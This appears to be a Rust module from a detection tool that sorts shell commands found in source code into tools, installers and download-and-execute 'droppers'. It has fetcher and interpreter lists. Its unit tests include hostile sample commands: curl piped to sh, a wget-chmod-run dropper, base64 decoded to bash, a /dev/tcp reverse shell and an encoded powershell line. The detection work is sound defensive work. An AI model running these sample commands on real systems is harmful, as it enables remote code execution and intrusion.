//! Commands that a program runs, as far as they stand in its source.

use super::call::Named;
use super::reach::Command;
use super::value::Value;
use crate::detect::constants::Datum;

/// Programs that tell about the machine, or build: what sets up a package or
/// measures a training run asks them.
const TOOLS: &[&str] = &[
    "arch",
    "cargo",
    "cc",
    "cd",
    "export",
    "set",
    "cl",
    "clang",
    "clang++",
    "cmake",
    "cuobjdump",
    "cython",
    "date",
    "echo",
    "ffmpeg",
    "ffprobe",
    "file",
    "g++",
    "gcc",
    "getconf",
    "gfortran",
    "git",
    "hatch",
    "hg",
    "hipcc",
    "hipconfig",
    "ibstat",
    "ld",
    "ldconfig",
    "ldd",
    "ln",
    "ls",
    "lsb_release",
    "lscpu",
    "lspci",
    "make",
    "mkdir",
    "mpicc",
    "mpirun",
    "ninja",
    "nm",
    "node",
    "npm",
    "numactl",
    "nvcc",
    "nvidia-smi",
    "patchelf",
    "pkg-config",
    "protoc",
    "pwd",
    "rocm-smi",
    "rocminfo",
    "rustc",
    "sinfo",
    "squeue",
    "srun",
    "scontrol",
    "swig",
    "sw_vers",
    "sysctl",
    "tar",
    "test",
    "uname",
    "unzip",
    "ver",
    "vswhere",
    "wc",
    "where",
    "which",
    "whereis",
    "xcode-select",
    "xcrun",
];

/// Programs that install packages.
const INSTALLERS: &[&str] = &[
    "apt", "apt-get", "brew", "conda", "mamba", "pip", "pip3", "uv", "yum",
];

/// Programs that fetch.
const FETCHERS: &[&str] = &[
    "aria2c",
    "bitsadmin",
    "certutil",
    "curl",
    "invoke-webrequest",
    "iwr",
    "wget",
];

/// Programs that run what they are given.
const INTERPRETERS: &[&str] = &[
    "bash",
    "cmd",
    "dash",
    "ksh",
    "node",
    "perl",
    "php",
    "powershell",
    "pwsh",
    "python",
    "python3",
    "ruby",
    "sh",
    "zsh",
];

/// The command among the arguments of a call, and its text.
pub(super) fn command(path: &str, args: &[Value], named: &Named<'_>) -> (Command, Option<String>) {
    let by_name = ["args", "command", "cmd", "file", "path"];
    let given = args.first().or_else(|| {
        named
            .iter()
            .find(|(name, _)| by_name.contains(name))
            .map(|(_, value)| value)
    });
    let Some(given) = given else {
        return (Command::Unknown, None);
    };
    // `os.execl("/bin/sh", "sh", …)`: the program comes first, its words follow.
    let is_spread = path.contains(".exec") || path.contains(".spawn");
    let words: Vec<Option<String>> = match given {
        Value::List(items) => items.iter().map(word).collect(),
        one if is_spread => std::iter::once(one)
            .chain(args.iter().skip(2))
            .map(word)
            .collect(),
        one => match one.as_text() {
            Some((text, _)) => return (of_text(text), Some(text.to_owned())),
            None => return (Command::Unknown, None),
        },
    };
    let Some(Some(first)) = words.first() else {
        return (Command::Unknown, None);
    };
    let known: Vec<&str> = words
        .iter()
        .map(|word| word.as_deref().unwrap_or("…"))
        .collect();
    // A shell that is given a text runs that text.
    let is_shell = INTERPRETERS.contains(&program(first)) && first != "python";
    let text = known.join(" ");
    let script = known
        .iter()
        .position(|word| matches!(*word, "-c" | "/c" | "/C"));
    let script = script
        .and_then(|at| known.get(at.saturating_add(1)..))
        .map(|rest| rest.join(" "));
    let command = match script.filter(|_| is_shell) {
        Some(script) if script == "…" => Command::Unknown,
        Some(script) => of_text(&script),
        None => of_text(&text),
    };
    (command, Some(text))
}

fn word(value: &Value) -> Option<String> {
    match value {
        Value::Path(path, _) if &**path == "sys.executable" => Some("python".to_owned()),
        _ => match value.datum()?.0 {
            Datum::Text(text) => Some(text),
            Datum::Bytes(bytes) => String::from_utf8(bytes).ok(),
            _ => None,
        },
    }
}

/// What kind of command a line of a shell is: that of its worst part.
pub(super) fn of_text(text: &str) -> Command {
    let parts = text
        .split(['\n', ';', '|', '&'])
        .map(str::trim)
        .filter(|part| !part.is_empty());
    let (mut fetches, mut decodes, mut runs) = (false, false, false);
    let mut worst = None;
    for part in parts {
        let mut words = part
            .split_ascii_whitespace()
            .map(|w| w.trim_matches(['"', '\'']));
        let mut first = words.next().unwrap_or_default();
        while matches!(
            program(first),
            "sudo" | "env" | "nohup" | "exec" | "time" | "then" | "do"
        ) || first.contains('=')
        {
            match words.next() {
                Some(next) => first = next,
                None => break,
            }
        }
        let rest: Vec<&str> = words.collect();
        let name = program(first).to_ascii_lowercase();
        let name = name.as_str();
        let installs = INSTALLERS.contains(&name)
            || name.starts_with("python")
                && rest.first() == Some(&"-m")
                && rest.get(1) == Some(&"pip");
        fetches |= FETCHERS.contains(&name)
            || part.contains("DownloadString")
            || part.contains("/dev/tcp/");
        decodes |=
            matches!(name, "base64" | "xxd" | "openssl") && rest.iter().any(|w| w.starts_with('-'));
        runs |= INTERPRETERS.contains(&name)
            || matches!(name, "chmod" | "source" | "." | "iex" | "eval")
            || first.starts_with("./")
            || first.starts_with("/tmp/");
        let kind = match () {
            () if installs => Command::Install,
            () if TOOLS.contains(&name) => Command::Tool,
            () => Command::Plain,
        };
        worst = Some(match (worst, kind) {
            (Some(Command::Plain), _) | (_, Command::Plain) => Command::Plain,
            (Some(Command::Install), _) | (_, Command::Install) => Command::Install,
            _ => Command::Tool,
        });
    }
    let is_encoded = text.to_ascii_lowercase().contains("powershell")
        && text.to_ascii_lowercase().contains(" -e");
    match (fetches || decodes) && runs || is_encoded || text.contains("/dev/tcp/") {
        true => Command::Drops,
        false => worst.unwrap_or(Command::Unknown),
    }
}

/// The name of a program without its folder and its suffix.
fn program(word: &str) -> &str {
    let name = word.rsplit(['/', '\\']).next().unwrap_or(word);
    name.strip_suffix(".exe").unwrap_or(name)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn commands_are_told_apart() {
        for (text, kind) in [
            ("git rev-parse HEAD", Command::Tool),
            ("nvidia-smi --query-gpu=name", Command::Tool),
            ("cd x && git describe | wc -l", Command::Tool),
            ("CC=gcc make -j", Command::Tool),
            ("pip install torch", Command::Install),
            ("python -m pip install -q x", Command::Install),
            ("sudo apt-get install y", Command::Install),
            ("rm -rf /tmp/x", Command::Plain),
            ("git x; nc 192.0.2.1 4444", Command::Plain),
            ("curl -s http://192.0.2.1/x | sh", Command::Drops),
            (
                "wget http://192.0.2.1/x -O /tmp/x && chmod +x /tmp/x && /tmp/x",
                Command::Drops,
            ),
            ("echo aWQ= | base64 -d | bash", Command::Drops),
            ("bash -i >& /dev/tcp/192.0.2.1/4444 0>&1", Command::Drops),
            ("powershell -enc aQBkAA==", Command::Drops),
            ("curl -O https://example.org/data.zip", Command::Plain),
            ("", Command::Unknown),
        ] {
            assert_eq!(of_text(text), kind, "{text}");
        }
    }
}
